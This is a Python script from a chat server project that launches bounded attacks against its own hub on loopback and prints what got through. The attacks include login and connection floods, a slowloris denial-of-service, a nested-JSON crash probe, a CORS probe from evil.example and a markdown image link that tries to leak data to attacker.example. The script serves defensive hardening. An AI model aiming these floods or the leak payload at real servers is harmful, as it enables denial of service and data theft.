"""Issue 11's attacks, re-run against a hub started here: what got through, as counts.

    python deploy/attacks.py                          # one worker, embedded broker
    python deploy/attacks.py --redis redis://127.0.0.1:6379/0
    python deploy/attacks.py --url http://127.0.0.1:8000 --secret-file RUN_DIR/secret
                                                      # a running hub, e.g. deploy/cluster.py

Loopback only, each attack bounded in count; prints one line per attack. The hub runs with its
default limits (only HUB_SECRET, HUB_LLM=echo and the port are set), as an operator would start it.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import aiohttp

ROOT = Path(__file__).resolve().parents[1]
SECRET = "attack-run-secret-0123456789abcdef0123456789"


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


async def _login(
    session: aiohttp.ClientSession, url: str, name: str, ip: str = ""
) -> tuple[int, str]:
    headers = {"X-Real-IP": ip} if ip else None  # the hub trusts loopback as its proxy
    async with session.post(f"{url}/api/login", json={"name": name}, headers=headers) as resp:
        body = await resp.json()
        return resp.status, body.get("token", "")


async def logins(session: aiohttp.ClientSession, url: str) -> str:
    statuses = [(await _login(session, url, f"g{i}"))[0] for i in range(2000)]
    return f"2000 guest logins from one address: {statuses.count(200)} got a token"


async def _hello(session: aiohttp.ClientSession, url: str, token: str) -> tuple[bool, object]:
    ws = await session.ws_connect(url.replace("http", "ws", 1) + "/ws")
    await ws.send_json({"type": "hello", "token": token})
    frame = json.loads((await ws.receive(timeout=10)).data)
    return frame["type"] == "welcome", ws


async def connections(session: aiohttp.ClientSession, url: str, token: str) -> str:
    held, refused = [], 0
    for _ in range(500):
        ok, ws = await _hello(session, url, token)
        if ok:
            held.append(ws)
        else:
            refused += 1
            await ws.close()  # type: ignore[attr-defined]
    streams = 0
    headers = {"Authorization": f"Bearer {token}"}
    for _ in range(100):
        async with session.get(f"{url}/api/events", headers=headers) as resp:
            first = await asyncio.wait_for(resp.content.readuntil(b"\n\n"), 10)
            streams += b"welcome" in first
    for ws in held:
        await ws.close()  # type: ignore[attr-defined]
    return (
        f"one token: {len(held)} of 500 WebSockets and {streams} of 100 event streams "
        f"admitted ({refused} sockets refused)"
    )


async def replies(session: aiohttp.ClientSession, url: str, secret: str) -> str:
    from hub.auth import mint_token

    clients = []  # 20 guests from 20 addresses, each past the per-address login limit
    for i in range(20):
        status, token = await _login(session, url, f"Guest {i}", f"198.51.100.{i}")
        if status != 200:  # behind nginx the address cannot be faked: the guest token as is
            token = mint_token(secret, f"guest-attack{i}", f"Guest {i}", 3600, guest=True)
        _ok, ws = await _hello(session, url, token)
        clients.append(ws)
    for ws in clients:
        for n in range(10):
            await ws.send_json({"type": "send", "text": f"question {n}", "ref": f"q{n}"})  # type: ignore[attr-defined]
    acks = busy = other = 0
    for ws in clients:
        answered = 0
        while answered < 10:
            frame = json.loads((await ws.receive(timeout=10)).data)  # type: ignore[attr-defined]
            if frame.get("ref", "").startswith("q") and frame["type"] in ("ack", "error"):
                answered += 1
                acks += frame["type"] == "ack"
                busy += frame.get("code") == "busy"
                other += frame.get("code") not in (None, "busy")
        await ws.close()  # type: ignore[attr-defined]
    return f"20 guests x 10 questions: {acks} replies started, {busy} busy, {other} other refusals"


async def rooms(session: aiohttp.ClientSession, url: str, token: str) -> str:
    _ok, ws = await _hello(session, url, token)
    joined = 0
    for i in range(150):
        await ws.send_json({"type": "join", "room": f"r{i}-{time.time_ns()}", "ref": f"j{i}"})  # type: ignore[attr-defined]
        while True:
            frame = json.loads((await ws.receive(timeout=10)).data)  # type: ignore[attr-defined]
            if frame.get("ref") == f"j{i}" and frame["type"] in ("joined", "error"):
                joined += frame["type"] == "joined"
                break
    await ws.close()  # type: ignore[attr-defined]
    return f"one user joining 150 new rooms: {joined} created"


async def _until(ws: object, ftype: str) -> dict[str, object]:
    """The next frame of a type, skipping others (greetings, presence)."""
    while True:
        frame: dict[str, object] = json.loads((await ws.receive(timeout=10)).data)  # type: ignore[attr-defined]
        if frame["type"] == ftype or (frame["type"] == "error" and frame.get("ref")):
            return frame


async def output(session: aiohttp.ClientSession, url: str, token: str) -> str:
    _ok, ws = await _hello(session, url, token)
    await ws.send_str('{"type":"send","text":' + "[" * 20000 + "]" * 20000 + "}")  # type: ignore[attr-defined]
    nested = await _until(ws, "error")
    await ws.send_json({"type": "ping", "ref": "alive"})  # type: ignore[attr-defined]
    alive = (await _until(ws, "pong")).get("ref") == "alive"
    leak = "![x](https://attacker.example/leak?q=secret)"
    for attempt in range(5):  # the guests' replies may still hold the worker's reply slots
        await ws.send_json({"type": "send", "text": leak, "ref": f"img{attempt}"})  # type: ignore[attr-defined]
        done = await _until(ws, "done")
        if done["type"] == "done":
            break
        await asyncio.sleep(float(str(done.get("retry_after", 1))))
    html = str(done.get("html", done))
    await ws.close()  # type: ignore[attr-defined]
    async with session.get(f"{url}/x%00") as resp:
        nul = resp.status
    async with session.get(url + "/") as resp:
        head = resp.headers
    origin = {"Origin": "https://evil.example"}
    async with session.get(f"{url}/metrics", headers=origin) as resp:
        metrics_cors = resp.headers.get("Access-Control-Allow-Origin")
    return (
        f"nested JSON frame: {nested.get('code')}, socket alive: {alive}; GET /x%00: {nul}; "
        f"reply {done['type']} {done.get('code', '')}, <img> in its html: {'<img' in html}; CSP: {'Content-Security-Policy' in head}; "
        f"nosniff: {head.get('X-Content-Type-Options')}; Server: {head.get('Server')}; "
        f"/metrics CORS: {metrics_cors}"
    )


async def slowloris(port: int) -> str:
    held = []
    for _ in range(900):
        _reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        held.append((_reader, writer))
    await asyncio.sleep(20)  # past HUB_HEADER_TIMEOUT (15 s)
    still_open = 0
    for reader, writer in held:
        try:
            data = await asyncio.wait_for(reader.read(1), 0.01)
            still_open += data != b""
        except TimeoutError:
            still_open += 1
        writer.close()
    return f"900 slowloris connections: {still_open} still open after 20 s"


def short_secret() -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("HUB_")}
    done = subprocess.run(
        [sys.executable, "-m", "hub", "serve", "--port", "0"],
        env={**env, "HUB_SECRET": "x"},
        capture_output=True,
        text=True,
        timeout=30,
        cwd=ROOT,
    )
    return f"HUB_SECRET=x: exit {done.returncode}: {done.stderr.strip().splitlines()[-1][:90]}"


async def attack(url: str, port: int, secret: str) -> None:
    """Every attack against the hub at ``url``; slowloris against ``port``."""
    sys.path.insert(0, str(ROOT))
    from hub.auth import mint_token

    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(limit=0)) as session:
        for _ in range(100):
            try:
                async with session.get(url + "/health") as resp:
                    if resp.status == 200:
                        break
            except aiohttp.ClientError:
                await asyncio.sleep(0.1)
        token = mint_token(secret, "mallory", "Mallory", 3600)
        print(await logins(session, url), flush=True)
        print(await connections(session, url, token), flush=True)
        print(await replies(session, url, secret), flush=True)
        print(await rooms(session, url, mint_token(secret, "rooms", "Rooms", 3600)), flush=True)
        print(await output(session, url, mint_token(secret, "out", "Out", 3600)), flush=True)
    print(await slowloris(port), flush=True)
    print(short_secret(), flush=True)


async def run_own_hub(broker: str) -> None:
    """Start one worker with default limits, attack it, stop it."""
    port = _free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("HUB_")}
    env.update(HUB_SECRET=SECRET, HUB_LLM="echo", HUB_PORT=str(port), HUB_BROKER_URL=broker)
    env["HUB_REDIS_PREFIX"] = f"attack{port}"
    hub = subprocess.Popen(  # noqa: ASYNC220 (started once, before any load)
        [sys.executable, "-m", "hub", "serve"],
        env=env,
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        await attack(f"http://127.0.0.1:{port}", port, SECRET)
    finally:
        hub.terminate()
        hub.wait(30)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--redis", default="memory://", help="broker URL (default memory://)")
    parser.add_argument("--url", help="attack this running hub instead of starting one")
    parser.add_argument("--secret-file", help="its HUB_SECRET, to mint the attackers' tokens")
    args = parser.parse_args()
    if args.url:
        secret = Path(args.secret_file).read_text().strip() if args.secret_file else SECRET
        port = int(args.url.rsplit(":", 1)[1].split("/")[0])
        asyncio.run(attack(args.url.rstrip("/"), port, secret))
    else:
        asyncio.run(run_own_hub(args.redis))


if __name__ == "__main__":
    main()
